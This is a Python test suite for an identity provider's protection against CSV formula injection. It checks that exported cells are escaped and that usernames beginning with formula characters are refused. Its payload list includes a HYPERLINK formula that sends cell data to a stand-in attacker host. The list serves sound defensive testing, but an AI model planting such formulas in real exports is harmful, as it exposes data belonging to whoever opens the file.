"""CSV (formula) injection, issue 24 item 4: no cell of any CSV campus-idp writes begins with
what a spreadsheet evaluates (= + - @ TAB CR, OWASP), and no username may begin with it: the
import (file, API, `idp users import`) and person creation (API, console) refuse it, saying why.
"""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path

import pytest

from idp.admin.service_import import ImportResult
from idp.http.csv_cells import FORMULA_STARTS, csv_line, csv_text, safe_cell
from tests.admin.console_support import console_browser, post_form
from tests.admin.support import AdminBackend, unique_username
from tests.admin.test_admin_cli_import import HEADER, _env, _people, _run, _seed

# one of each: what a spreadsheet would run (or drop and run) if it opened the cell as it is
HOSTILE = ["=1+2", "+SUM(A1:A9)", "-2+3", "@SUM(1)", "\t=1+2", "\r=1+2",
           "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _dangerous(cell: str) -> bool:
    return cell[:1] in FORMULA_STARTS


def test_every_formula_start_is_escaped_and_nothing_else_is_touched() -> None:
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}
    for value in HOSTILE:
        assert safe_cell(value) == "'" + value
    for value in ("zhangsan", "张三", "a=b", " =1", "'=1", "", "2025-09-01", "{\"a\": 1}"):
        assert safe_cell(value) == value
    assert safe_cell(None) == "" and safe_cell(-3) == "'-3" and safe_cell(7) == "7"
    # a cell cannot close itself early and smuggle in a new cell or record
    [row] = _cells(csv_line(['a",=1+1', "b\n=2+2", "c,@x"]))
    assert row == ['a",=1+1', "b\n=2+2", "c,@x"]
    rows = _cells(csv_text([["h1", "h2"], HOSTILE[:2]]))
    assert rows == [["h1", "h2"], ["'=1+2", "'+SUM(A1:A9)"]]


def test_the_import_result_file_escapes_its_cells() -> None:
    """Usernames like these are refused at import (below); the result file escapes them anyway,
    as it escapes every cell."""
    result = ImportResult(total=len(HOSTILE))
    for line, name in enumerate(HOSTILE, start=2):
        result.statuses[line] = (name, "created")
    result.passwords[HOSTILE[0]] = "-Not-a-formula-9"
    rows = _cells(result.result_csv())
    assert rows[0] == ["line", "username", "status", "password"]
    assert [row[1] for row in rows[1:]] == ["'" + name for name in HOSTILE]
    assert rows[1][3] == "'-Not-a-formula-9"
    assert not any(_dangerous(cell) for row in rows for cell in row)


async def test_the_audit_export_escapes_tab_and_carriage_return_too(backend: AdminBackend) -> None:
    marker = unique_username("csv")
    for value in HOSTILE:
        await backend.services.audit.record("login", "invalid_credentials", actor=value,
                                            client_id=value, ip=value, target=marker)
    response = await backend.api("GET", "/audit.csv", params={"kind": "login"})
    assert response.status_code == 200
    rows = _cells(response.text)
    mine = [row for row in rows if marker in row[7]]
    assert len(mine) == len(HOSTILE)
    assert sorted(row[4] for row in mine) == sorted("'" + value for value in HOSTILE)
    assert not any(_dangerous(cell) for row in rows for cell in row)
    # the console's export is the same stream
    browser, _ = await console_browser(backend)
    try:
        console = await browser.http.get("/admin/audit.csv", params={"kind": "login"})
        assert console.status_code == 200
        assert not any(_dangerous(cell) for row in _cells(console.text) for cell in row)
    finally:
        await browser.close()


@pytest.mark.parametrize("first", ["=", "+", "-", "@"])
async def test_person_creation_refuses_a_formula_username(backend: AdminBackend, first: str) -> None:
    username = first + unique_username("f")
    response = await backend.api("POST", "/people", json={"username": username, "name": "F"})
    assert response.status_code == 422, response.text
    assert "username" in response.json()["error_description"]
    assert "formula" in response.json()["error_description"]
    assert await backend.person(username) is None
    assert await backend.person(username[1:]) is None


async def test_the_console_refuses_a_formula_username(backend: AdminBackend) -> None:
    browser, _ = await console_browser(backend)
    username = "@" + unique_username("web")
    try:
        refused = await post_form(browser, "/admin/people/new", "/admin/people/new", {
            "username": username, "name": "At Sign"})
        assert refused.status_code == 422
        assert "formula" in refused.text
        assert await backend.person(username) is None
    finally:
        await browser.close()


async def test_the_import_api_refuses_formula_usernames(backend: AdminBackend) -> None:
    stem = unique_username("imp")
    body = f"username,name\n+{stem},Plus\n{stem}ok,Fine\n@{stem},At\n".encode()
    refused = await backend.api("POST", "/imports", content=body,
                                headers={"Content-Type": "text/csv"})
    assert refused.status_code == 422
    errors = refused.json()["errors"]
    assert [(e["line"], e["column"]) for e in errors] == [(2, "username"), (4, "username")]
    assert all("formula" in e["message"] for e in errors)
    assert await backend.person(f"{stem}ok") is None  # nothing written while any row is wrong


def test_the_cli_import_refuses_formula_usernames(tmp_path: Path) -> None:
    env = _env(tmp_path)
    asyncio.run(_seed(env["IDP_DATABASE_URL"]))
    file = tmp_path / "intake.csv"
    file.write_text(HEADER + "\n+cmd,新生,cmd@example.edu,student,students,\n"
                    "fine1,新生,fine1@example.edu,student,students,\n", encoding="utf-8")
    result = _run(env, str(file))
    assert result.exit_code == 1, result.output
    assert "intake.csv: line 2, column username: must not start with" in result.stderr
    assert "formula" in result.stderr
    assert not (tmp_path / "intake.result.csv").exists()
    assert asyncio.run(_people(env["IDP_DATABASE_URL"], ["fine1", "+cmd"])) == {
        "fine1": None, "+cmd": None}
